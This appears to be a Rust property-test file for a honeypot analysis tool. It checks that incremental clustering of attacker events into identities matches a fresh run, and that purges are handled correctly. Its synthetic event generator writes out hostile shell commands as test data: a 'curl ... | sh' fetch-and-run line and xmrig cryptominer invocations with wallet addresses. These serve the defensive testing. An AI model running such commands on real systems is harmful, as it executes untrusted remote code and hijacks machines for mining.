//! A fleet that is kept up to date says what a fresh one says.

use std::collections::BTreeMap;

use proptest::prelude::*;
use tokio::runtime::Runtime;
use vespid_attack::Catalogue;
use vespid_engine::{Engine, Pack};
use vespid_model::Body;
use vespid_model::UtcMicros;
use vespid_model::body::{AuthAttempt, AuthResult, Command};
use vespid_model::event::Event;
use vespid_model::tag::Tagged;
use vespid_store::{Batch, Store};

use super::Clusterer;

/// Few addresses, values and sessions, so that many meet.
fn event() -> impl Strategy<Value = Event> {
    (0_i64..200, 1_u8..9, 0_u8..3, 0_u8..7).prop_map(|(minute, address, session, what)| {
        let time = UtcMicros::from_micros(1_700_000_000_000_000 + minute * 60_000_000);
        let typed = |text: String| Body::Command(Command { command_text: text, script: false });
        let body = match what {
            0..=2 => typed(format!("curl http://192.0.2.{what}/x.sh | sh")),
            3 => typed("xmrig -u bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4".to_owned()),
            4 => typed("xmrig -u 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa".to_owned()),
            _ => Body::AuthAttempt(AuthAttempt {
                username: "root".to_owned(),
                password: Some(format!("p{what}")),
                password_sha256: None,
                key_fingerprint: None,
                result: AuthResult::Failure,
                service: "ssh".to_owned(),
            }),
        };
        let ip = [203, 0, 113, address].into();
        Event::new(time, ip, &format!("d{}", what % 2), Some(&format!("s{address}-{session}")), body)
    })
}

fn batch(engine: &Engine, events: &[Event]) -> Batch {
    let mut batch = Batch { tagged_at: Some(UtcMicros::EARLIEST), ..Batch::default() };
    for (place, event) in events.iter().enumerate() {
        let verdict = engine.tag(event);
        batch.observed.push((place, verdict.observables));
        batch.tagged.push(Tagged { event: event.clone(), tags: verdict.tags });
    }
    batch
}

async fn fresh(folder: &tempfile::TempDir, name: &str) -> Store {
    Store::open(&format!("sqlite:{}", folder.path().join(name).display())).await.unwrap()
}

/// Who is who, without what tells how it came about.
async fn said(store: &Store) -> (Vec<String>, Vec<String>) {
    let clustered = store.clustered().await.unwrap();
    let links = clustered.links.iter().map(|(attacker, identity)| format!("{attacker} {identity}"));
    let mut groups: Vec<String> = Vec::new();
    for identity in clustered.identities.iter().filter(|identity| identity.members > 0) {
        groups.push(format!("{identity:?}"));
        let edges = store.edge_list(identity.id, 1000).await.unwrap();
        groups
            .extend(edges.iter().map(|edge| format!("{} {} {} {}", edge.a, edge.b, edge.joins, edge.score)));
    }
    groups.extend(clustered.assignments.iter().map(|(identity, campaign)| format!("{identity} {campaign}")));
    (links.collect(), groups)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn kept_up_to_date_is_the_same_as_anew(events in prop::collection::vec(event(), 1..60), cuts in 1_usize..8) {
        let attack = Catalogue::bundled(Catalogue::bundled_releases()[0]).unwrap();
        let (engine, _) = Engine::new(Pack::load(&[], attack), attack);
        Runtime::new().unwrap().block_on(async {
            let folder = tempfile::tempdir().unwrap();
            let (kept, anew) = (fresh(&folder, "kept.db").await, fresh(&folder, "anew.db").await);
            let mut clusterer = Clusterer::default();
            for part in events.chunks(events.len().div_ceil(cuts)) {
                kept.commit(batch(&engine, part)).await.unwrap();
                clusterer.run(&kept, UtcMicros::EARLIEST).await.unwrap();
            }
            assert_eq!(clusterer.run(&kept, UtcMicros::EARLIEST).await.unwrap(), None, "nothing changed");
            anew.commit(batch(&engine, &events)).await.unwrap();
            Clusterer::default().run(&anew, UtcMicros::EARLIEST).await.unwrap();
            assert_eq!(said(&kept).await, said(&anew).await);
            // A process that begins with what another wrote.
            Clusterer::default().run(&kept, UtcMicros::EARLIEST).await.unwrap();
            assert_eq!(said(&kept).await, said(&anew).await);
            assert!(kept.doctor(9).await.unwrap().is_empty());
        });
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Whoever is deleted leaves the fleet, and may come again.
    #[test]
    fn a_purge_is_followed(events in prop::collection::vec(event(), 1..60), minute in 0_i64..200) {
        let attack = Catalogue::bundled(Catalogue::bundled_releases()[0]).unwrap();
        let (engine, _) = Engine::new(Pack::load(&[], attack), attack);
        Runtime::new().unwrap().block_on(async {
            let folder = tempfile::tempdir().unwrap();
            let store = fresh(&folder, "t.db").await;
            let mut kept = Clusterer::default();
            for round in 0..2 {
                store.commit(batch(&engine, &events)).await.unwrap();
                kept.run(&store, UtcMicros::EARLIEST).await.unwrap();
                let before = UtcMicros::from_micros(1_700_000_000_000_000 + minute * 60_000_000);
                store.purge(before, false, |_| {}).await.unwrap();
                kept.run(&store, UtcMicros::EARLIEST).await.unwrap();
                let stored = store.clustered().await.unwrap().links;
                let links: BTreeMap<_, _> = stored.into_iter().collect();
                let (anew, _) = Clusterer::look(&store).await.unwrap();
                prop_assert_eq!(anew.fleet.identities(), kept.fleet.identities(), "round {}", round);
                let several = anew.fleet.identities().into_iter().filter(|it| it.members.len() > 1);
                for (identity, member) in several.flat_map(|it| it.members.into_iter().map(move |one| (it.id, one))) {
                    prop_assert_eq!(links.get(&member), Some(&identity), "round {}", round);
                }
                // And nobody is linked to what is not his, or not there any more.
                for (attacker, identity) in links {
                    let own = anew.fleet.identity_of(attacker).map(|it| it.id);
                    prop_assert_eq!(own, Some(identity), "round {}", round);
                }
            }
            Ok(())
        })?;
    }
}
